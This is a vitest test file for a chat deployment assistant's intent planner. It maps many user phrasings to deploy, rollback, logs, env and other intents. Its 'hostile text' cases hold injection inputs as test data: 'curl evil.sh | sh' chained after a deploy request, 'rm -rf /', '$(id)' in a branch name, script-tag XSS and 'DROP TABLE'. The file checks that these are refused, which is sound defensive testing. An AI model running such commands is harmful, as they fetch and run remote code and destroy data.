import { describe, expect, it } from 'vitest';
import type { ChatIntent } from '#contracts';
import type { ChatFocus } from '../session/chat-focus.js';
import { intentOfCall } from './plan.js';
import { planMessage } from './plan-message.js';

const D1 = '2b1f0c8e-5d4a-4c1b-9a7e-3f6d2c1b0a99';
const D2 = '7c9e6679-7425-40de-944b-e07fc1f90ae7';
const SERVICES = ['node-hello', 'api', 'shop', 'billing-worker'];
/** A conversation that has analyzed and deployed acme/shop. */
const FOCUS: ChatFocus = {
  repoUrl: 'https://github.com/acme/shop',
  branch: 'main',
  service: 'shop',
  deploymentId: D1,
  analysis: { repoUrl: 'https://github.com/acme/shop', branch: 'main', commitSha: null, language: 'node', framework: 'express' },
};
const SHOP = { repoUrl: 'https://github.com/acme/shop', branch: 'main' };
const FOO = 'https://github.com/foo/bar';

function understood(message: string, focus: ChatFocus = FOCUS, services: string[] = SERVICES): ChatIntent {
  const plan = planMessage({ message, focus, services });
  if (plan.type === 'call') return intentOfCall(plan.call);
  if (plan.type === 'reply') return plan.intent;
  return { kind: plan.decision === 'dismiss' ? 'dismiss' : 'clarify' };
}

/** Written the way people type: paraphrases, typos, filler words. */
const PHRASINGS: [string, ChatIntent][] = [
  // deploy
  ['please deploy github.com/foo/bar from the dev branch', { kind: 'deploy', repoUrl: FOO, branch: 'dev' }],
  ['deploy github.com/foo/bar branch dev', { kind: 'deploy', repoUrl: FOO, branch: 'dev' }],
  [
    'I want to analyze and deploy this repository: https://github.com/user/repo (branch: main)',
    { kind: 'deploy', repoUrl: 'https://github.com/user/repo', branch: 'main' },
  ],
  ['deploy https://github.com/foo/bar', { kind: 'deploy', repoUrl: FOO, branch: undefined }],
  ['ship https://github.com/foo/bar to production', { kind: 'deploy', repoUrl: FOO, branch: undefined }],
  ['can you put https://github.com/foo/bar live?', { kind: 'deploy', repoUrl: FOO }],
  ['launch https://github.com/acme/site on the staging branch', { kind: 'deploy', repoUrl: 'https://github.com/acme/site', branch: 'staging' }],
  ['deploy it', { kind: 'deploy', ...SHOP }],
  ['ship it', { kind: 'deploy', ...SHOP }],
  ['put it live', { kind: 'deploy', ...SHOP }],
  ['deploy this repo', { kind: 'deploy', ...SHOP }],
  ['deploy https://github.com/foo/bar.git', { kind: 'deploy', repoUrl: FOO }],
  ['deploy https://github.com/foo/bar/tree/feature/login', { kind: 'deploy', repoUrl: FOO, branch: 'feature/login' }],
  ['deploy git@github.com:foo/bar.git', { kind: 'deploy', repoUrl: FOO }],
  ['deploy /srv/apps/hello', { kind: 'deploy', repoUrl: '/srv/apps/hello' }],
  ['dploy github.com/foo/bar', { kind: 'deploy', repoUrl: FOO }],
  ['deplyo https://github.com/foo/bar', { kind: 'deploy', repoUrl: FOO }],
  ['pls deploy github.com/foo/bar --branch release-2', { kind: 'deploy', repoUrl: FOO, branch: 'release-2' }],
  ['deploy github.com/foo/bar -b hotfix', { kind: 'deploy', repoUrl: FOO, branch: 'hotfix' }],
  ['could you deploy the main branch of github.com/foo/bar for me?', { kind: 'deploy', repoUrl: FOO, branch: 'main' }],
  ['go live with github.com/foo/bar', { kind: 'deploy', repoUrl: FOO }],
  ['Deploy HTTPS://GITHUB.COM/foo/bar', { kind: 'deploy', repoUrl: FOO }],
  ['deploy github.com/foo/bar branch=dev', { kind: 'deploy', repoUrl: FOO, branch: 'dev' }],
  ['ship the dev branch of github.com/foo/bar', { kind: 'deploy', repoUrl: FOO, branch: 'dev' }],
  ['deploy http://github.com/foo/bar', { kind: 'deploy', repoUrl: FOO }],
  ['deploy it from the next branch', { kind: 'deploy', repoUrl: SHOP.repoUrl, branch: 'next' }],
  ['hey, could you get https://github.com/foo/bar online', { kind: 'deploy', repoUrl: FOO }],
  ['deploy node-hello', { kind: 'redeploy', service: 'node-hello' }],
  ['please deploy', { kind: 'clarify' }],
  ['deploy foo/bar', { kind: 'clarify', repoUrl: FOO }],
  ['deploy https://github.com/a/b and https://github.com/c/d', { kind: 'clarify' }],
  ['deploy github.com/foo/bar from the $(id) branch', { kind: 'clarify' }],
  // analyze
  ['analyze https://github.com/foo/bar', { kind: 'analyze', repoUrl: FOO }],
  ['analyse github.com/foo/bar please', { kind: 'analyze', repoUrl: FOO }],
  ['what kind of app is github.com/foo/bar?', { kind: 'analyze', repoUrl: FOO }],
  ['inspect github.com/foo/bar on branch next', { kind: 'analyze', repoUrl: FOO, branch: 'next' }],
  ['can you take a look at https://github.com/foo/bar', { kind: 'analyze', repoUrl: FOO }],
  ['analyze it', { kind: 'analyze', ...SHOP }],
  ['analzye github.com/foo/bar', { kind: 'analyze', repoUrl: FOO }],
  ['scan /srv/apps/hello', { kind: 'analyze', repoUrl: '/srv/apps/hello' }],
  ['what would you detect in github.com/foo/bar', { kind: 'analyze', repoUrl: FOO }],
  ['check out github.com/foo/bar', { kind: 'analyze', repoUrl: FOO }],
  ['examine the repo https://github.com/foo/bar branch: dev', { kind: 'analyze', repoUrl: FOO, branch: 'dev' }],
  ['analyze', { kind: 'clarify' }],
  ['https://github.com/foo/bar', { kind: 'clarify', repoUrl: FOO }],
  // status
  ["what's running?", { kind: 'status', service: undefined }],
  ['status', { kind: 'status' }],
  ['whats running', { kind: 'status' }],
  ['show me my services', { kind: 'status' }],
  ['list my apps', { kind: 'status' }],
  ['is node-hello up?', { kind: 'status', service: 'node-hello' }],
  ['is the api running', { kind: 'status', service: 'api' }],
  ['how is billing-worker doing?', { kind: 'status', service: 'billing-worker' }],
  ['what is deployed right now', { kind: 'status' }],
  ['any apps online?', { kind: 'status' }],
  ['give me an overview', { kind: 'status' }],
  ['staus', { kind: 'status' }],
  ['did my deploy finish?', { kind: 'status' }],
  ['is it live yet?', { kind: 'status', service: 'shop' }],
  ['what do I have deployed?', { kind: 'status' }],
  ['dashboard', { kind: 'status' }],
  ['how are my apps doing', { kind: 'status' }],
  // logs
  ['logs node-hello', { kind: 'logs', service: 'node-hello' }],
  ['show me the logs of api', { kind: 'logs', service: 'api' }],
  ['show the logs', { kind: 'logs', service: 'shop' }],
  ['what did billing-worker print?', { kind: 'logs', service: 'billing-worker' }],
  ['tail the logs for node-hello', { kind: 'logs', service: 'node-hello' }],
  ['lgos node-hello', { kind: 'logs', service: 'node-hello' }],
  ['can I see the output of shop?', { kind: 'logs', service: 'shop' }],
  ['show me its logs', { kind: 'logs', service: 'shop' }],
  ['logs for billing', { kind: 'logs', service: 'billing' }],
  ['logs of nod-hello', { kind: 'clarify', service: 'node-hello' }],
  ['give me the stdout of api', { kind: 'logs', service: 'api' }],
  ['show error logs of api', { kind: 'logs', service: 'api' }],
  [`logs of deployment ${D2}`, { kind: 'logs', deploymentId: D2 }],
  // rollback
  ['rollback node-hello', { kind: 'rollback', service: 'node-hello', revision: undefined }],
  ['roll back node-hello to 4f1c', { kind: 'rollback', service: 'node-hello', revision: '4f1c' }],
  ['roll it back', { kind: 'rollback', service: 'shop' }],
  ['revert the api', { kind: 'rollback', service: 'api' }],
  ['undo my last deploy', { kind: 'rollback', service: 'shop' }],
  ['go back to the previous version of billing-worker', { kind: 'rollback', service: 'billing-worker' }],
  ['rollbak shop', { kind: 'rollback', service: 'shop' }],
  ['revert node-hello to revision 9b7e31aa', { kind: 'rollback', service: 'node-hello', revision: '9b7e31aa' }],
  ['roll node-hello back', { kind: 'rollback', service: 'node-hello' }],
  ['restore the previous release', { kind: 'rollback', service: 'shop' }],
  ['switch api to the older version', { kind: 'rollback', service: 'api' }],
  ['can you roll back the broken release of shop?', { kind: 'rollback', service: 'shop' }],
  [`roll back api to ${D2}`, { kind: 'rollback', service: 'api', revision: D2 }],
  // redeploy
  ['redeploy shop', { kind: 'redeploy', service: 'shop' }],
  ['deploy it again', { kind: 'redeploy', service: 'shop' }],
  ['redeploy', { kind: 'redeploy', service: 'shop' }],
  ['rebuild node-hello', { kind: 'redeploy', service: 'node-hello' }],
  ['try again', { kind: 'redeploy', service: 'shop' }],
  ['ship api again', { kind: 'redeploy', service: 'api' }],
  ['re-deploy billing-worker', { kind: 'redeploy', service: 'billing-worker' }],
  ['restart the api', { kind: 'redeploy', service: 'api' }],
  // cancel
  ['cancel my deployment', { kind: 'cancel', deploymentId: D1 }],
  ['cancel that', { kind: 'cancel', deploymentId: D1 }],
  ['abort the build', { kind: 'cancel', deploymentId: D1 }],
  ['stop the deployment', { kind: 'cancel', deploymentId: D1 }],
  [`cancel deployment ${D2}`, { kind: 'cancel', deploymentId: D2 }],
  ['cancle it', { kind: 'cancel', deploymentId: D1 }],
  ['please stop deploying', { kind: 'cancel', deploymentId: D1 }],
  ['kill the build', { kind: 'cancel', deploymentId: D1 }],
  // set_env
  ['set GREETING=hello on node-hello', { kind: 'set_env', service: 'node-hello', envNames: ['GREETING'] }],
  ['DATABASE_URL=postgres://db/app', { kind: 'set_env', service: 'shop', envNames: ['DATABASE_URL'] }],
  ['add API_KEY=abc123 to api', { kind: 'set_env', service: 'api', envNames: ['API_KEY'] }],
  ['set the env var DEBUG to true for shop', { kind: 'set_env', service: 'shop', envNames: ['DEBUG'] }],
  ['configure PORT_OFFSET=3 LOG_LEVEL=debug on api', { kind: 'set_env', service: 'api', envNames: ['PORT_OFFSET', 'LOG_LEVEL'] }],
  ['set secret STRIPE_KEY=sk_test_123 on shop', { kind: 'set_env', service: 'shop', envNames: ['STRIPE_KEY'] }],
  ['GREETING="hello world" for billing-worker', { kind: 'set_env', service: 'billing-worker', envNames: ['GREETING'] }],
  ['set GREETING', { kind: 'clarify', envNames: ['GREETING'] }],
  ['PORT=8080 on api', { kind: 'clarify' }],
  ['set FOO=bar; rm -rf /', { kind: 'clarify' }],
  // unset_env
  ['unset DEBUG on shop', { kind: 'unset_env', service: 'shop', envNames: ['DEBUG'] }],
  ['remove the FOO variable from api', { kind: 'unset_env', service: 'api', envNames: ['FOO'] }],
  ['delete env var LOG_LEVEL', { kind: 'unset_env', service: 'shop', envNames: ['LOG_LEVEL'] }],
  ['unset DEBUG and VERBOSE from node-hello', { kind: 'unset_env', service: 'node-hello', envNames: ['DEBUG', 'VERBOSE'] }],
  ['drop the secret STRIPE_KEY', { kind: 'unset_env', service: 'shop', envNames: ['STRIPE_KEY'] }],
  ['remove env API_TOKEN from billing-worker', { kind: 'unset_env', service: 'billing-worker', envNames: ['API_TOKEN'] }],
  ['unset', { kind: 'clarify' }],
  // stop
  ['stop node-hello', { kind: 'stop', service: 'node-hello' }],
  ['shut down the api', { kind: 'stop', service: 'api' }],
  ['take shop down', { kind: 'stop', service: 'shop' }],
  ['turn it off', { kind: 'stop', service: 'shop' }],
  ['pause billing-worker', { kind: 'stop', service: 'billing-worker' }],
  ['please stop the api for now', { kind: 'stop', service: 'api' }],
  // delete
  ['delete node-hello', { kind: 'delete', service: 'node-hello' }],
  ['remove the service api', { kind: 'delete', service: 'api' }],
  ['tear down billing-worker', { kind: 'delete', service: 'billing-worker' }],
  ['get rid of shop', { kind: 'delete', service: 'shop' }],
  ['destroy it', { kind: 'delete', service: 'shop' }],
  ['nuke node-hello', { kind: 'delete', service: 'node-hello' }],
  // traffic
  ['send 10% of traffic to 9b7e31 and 90% to 4f1c2a on api', { kind: 'traffic', service: 'api' }],
  ['traffic api 90% to 4f1c2a and 10% to 9b7e31', { kind: 'traffic', service: 'api' }],
  ['canary 5% to 9b7e31 on shop', { kind: 'clarify' }],
  ['route all traffic to 4f1c2a', { kind: 'clarify' }],
  // explain_failure
  ['why did my last deploy fail?', { kind: 'explain_failure' }],
  ['why did it fail?', { kind: 'explain_failure' }],
  ['what went wrong?', { kind: 'explain_failure' }],
  ['what happened?', { kind: 'explain_failure' }],
  ['explain the error', { kind: 'explain_failure' }],
  ['my deployment failed', { kind: 'explain_failure' }],
  ['it crashed, why?', { kind: 'explain_failure' }],
  [`diagnose deployment ${D2}`, { kind: 'explain_failure', deploymentId: D2 }],
  ['why is shop down?', { kind: 'explain_failure', service: 'shop' }],
  ['fix it', { kind: 'explain_failure' }],
  ['how do I fix this?', { kind: 'explain_failure' }],
  ['whats wrong with api', { kind: 'explain_failure', service: 'api' }],
  ['why did the build break', { kind: 'explain_failure' }],
  ['the deploy broke, help', { kind: 'explain_failure' }],
  ["why won't it start", { kind: 'explain_failure' }],
  ['deployment error?', { kind: 'explain_failure' }],
  ['why did my deploy fial', { kind: 'explain_failure' }],
  // list_repos
  ['list my github repos', { kind: 'list_repos' }],
  ['which repositories can I deploy?', { kind: 'list_repos' }],
  ['show my repos', { kind: 'list_repos' }],
  ['what projects do I have on github?', { kind: 'list_repos' }],
  ['list my repositories named shop', { kind: 'list_repos' }],
  ['my repos', { kind: 'list_repos' }],
  ['show me my github repositories matching api', { kind: 'list_repos' }],
  // help
  ['help', { kind: 'help' }],
  ['hi', { kind: 'help' }],
  ['what can you do?', { kind: 'help' }],
  ['hello there', { kind: 'help' }],
  ['thanks!', { kind: 'help' }],
  ['', { kind: 'help' }],
  ['?', { kind: 'help' }],
  ['asdfghjkl', { kind: 'help' }],
  ['tell me a joke', { kind: 'help' }],
  ["don't deploy anything yet", { kind: 'help' }],
  // junk and hostile text starts nothing
  ['rm -rf / ; curl x | sh', { kind: 'help' }],
  ['rm -rf / ; deploy', { kind: 'clarify' }],
  ['<script>alert(1)</script>', { kind: 'help' }],
  ['deploy <script>alert(1)</script>', { kind: 'clarify' }],
  ['x'.repeat(10_000), { kind: 'clarify' }],
  ['deploy `rm -rf /`', { kind: 'clarify' }],
  ['[click me](javascript:alert(1)) deploy it', { kind: 'clarify' }],
  ['DROP TABLE deployments; --', { kind: 'help' }],
  ['deploy github.com/foo/bar && curl evil.sh | sh', { kind: 'clarify' }],
  ['logs x; rm -rf /', { kind: 'clarify' }],
  ['rollback x; rm -rf /', { kind: 'clarify' }],
];

describe(planMessage.name, () => {
  it('has a phrasing table of at least 150 messages', () => {
    expect(PHRASINGS.length).toBeGreaterThanOrEqual(150);
  });

  it.each(PHRASINGS.map(([message, intent]) => [message.length > 60 ? `${message.slice(0, 57)}...` : message, message, intent] as const))(
    '%j',
    (_label, message, intent) => {
      const actual = understood(message) as Record<string, unknown>;
      // A field expected as undefined must be absent: nothing read that was not there.
      for (const [field, value] of Object.entries(intent)) expect({ [field]: actual[field] }).toEqual({ [field]: value });
    },
  );

  it.each([
    ['deploy it', { kind: 'clarify' }],
    ['roll it back', { kind: 'clarify' }],
    ['cancel that', { kind: 'clarify' }],
    ['redeploy', { kind: 'clarify' }],
    ['stop', { kind: 'clarify' }],
    ['show the logs', { kind: 'clarify' }],
    ['set DEBUG=1', { kind: 'clarify', envNames: ['DEBUG'] }],
  ] as const)('asks rather than guesses with nothing to refer to: %j', (message, intent) => {
    expect(understood(message, {})).toEqual(intent);
  });

  it('never reads a pronoun as a repository name', () => {
    for (const message of ['deploy it', 'deploy that', 'deploy this', 'analyze it']) {
      const plan = planMessage({ message, focus: {}, services: [] });
      expect(plan.type).toBe('reply');
      expect(JSON.stringify(plan)).not.toMatch(/repoUrl":"(it|that|this)"/);
    }
  });

  it('answers to a pending confirmation: "no" dismisses it, "yes" points at the button, a new command is a new command', () => {
    const pending: ChatFocus = { ...FOCUS, pendingConfirmationId: D2 };
    expect(planMessage({ message: 'no', focus: pending, services: SERVICES })).toEqual({ type: 'pending', decision: 'dismiss' });
    expect(planMessage({ message: 'cancel that', focus: pending, services: SERVICES })).toEqual({ type: 'pending', decision: 'dismiss' });
    expect(planMessage({ message: 'never mind', focus: pending, services: SERVICES })).toEqual({ type: 'pending', decision: 'dismiss' });
    expect(planMessage({ message: 'yes', focus: pending, services: SERVICES })).toEqual({ type: 'pending', decision: 'remind' });
    expect(planMessage({ message: 'yes go ahead', focus: pending, services: SERVICES })).toEqual({ type: 'pending', decision: 'remind' });
    expect(understood('yes, roll back api', pending)).toEqual({ kind: 'rollback', service: 'api' });
    expect(understood('yes')).toEqual({ kind: 'help' });
  });

  it('gives the values a reply asked for to the service it asked about', () => {
    const awaiting: ChatFocus = { ...FOCUS, awaitingValues: { service: 'api', names: ['GREETING'] } };
    expect(understood('GREETING=hi', awaiting)).toEqual({ kind: 'set_env', service: 'api', envNames: ['GREETING'] });
    expect(understood('OTHER=1', awaiting)).toEqual({ kind: 'set_env', service: 'shop', envNames: ['OTHER'] });
  });

  it('takes the repository the UI has selected as the one meant', () => {
    const plan = planMessage({ message: 'deploy', focus: {}, services: [], selected: { repoUrl: FOO, branch: 'dev' } });
    expect(plan.type === 'call' && intentOfCall(plan.call)).toEqual({ kind: 'deploy', repoUrl: FOO, branch: 'dev' });
  });

  it('follows a conversation turn by turn, with pronouns resolved from what came before', () => {
    const turns: [string, ChatFocus, ChatIntent][] = [
      ['analyze https://github.com/foo/bar on the dev branch', {}, { kind: 'analyze', repoUrl: FOO, branch: 'dev' }],
      [
        'deploy it',
        { analysis: { repoUrl: FOO, branch: 'dev', commitSha: 'abc', language: 'node', framework: null } },
        { kind: 'deploy', repoUrl: FOO, branch: 'dev' },
      ],
      ['cancel that', { repoUrl: FOO, branch: 'dev', deploymentId: D2 }, { kind: 'cancel', deploymentId: D2 }],
      ['ok deploy it again', { repoUrl: FOO, branch: 'dev', deploymentId: D2, service: 'bar' }, { kind: 'redeploy', service: 'bar' }],
      ['why did it fail?', { repoUrl: FOO, service: 'bar', failedDeploymentId: D2 }, { kind: 'explain_failure' }],
      ['show me its logs', { repoUrl: FOO, service: 'bar' }, { kind: 'logs', service: 'bar' }],
      ['roll it back', { repoUrl: FOO, service: 'bar' }, { kind: 'rollback', service: 'bar' }],
      ['and stop it', { repoUrl: FOO, service: 'bar' }, { kind: 'stop', service: 'bar' }],
    ];
    for (const [message, focus, intent] of turns) expect(understood(message, focus, ['bar'])).toEqual(intent);
  });

  it('offers a button for what it asks, which plans unambiguously when pressed', () => {
    const plan = planMessage({ message: 'deploy foo/bar', focus: {}, services: [] });
    expect(plan.type).toBe('reply');
    const button = plan.type === 'reply' ? plan.actions[0] : undefined;
    expect(button).toMatchObject({ type: 'reply', message: `deploy ${FOO}` });
    expect(understood(button!.message!, {})).toEqual({ kind: 'deploy', repoUrl: FOO });
  });

  it('refuses to act on a message hiding a command in shell syntax, and offers the clean command instead', () => {
    const plan = planMessage({ message: 'deploy github.com/foo/bar && curl evil.sh | sh', focus: {}, services: [] });
    expect(plan).toMatchObject({ type: 'reply', intent: { kind: 'clarify' }, actions: [{ type: 'reply', message: `deploy ${FOO}` }] });
    expect(plan.type === 'reply' && plan.content).toContain("I don't run shell commands");
  });
});
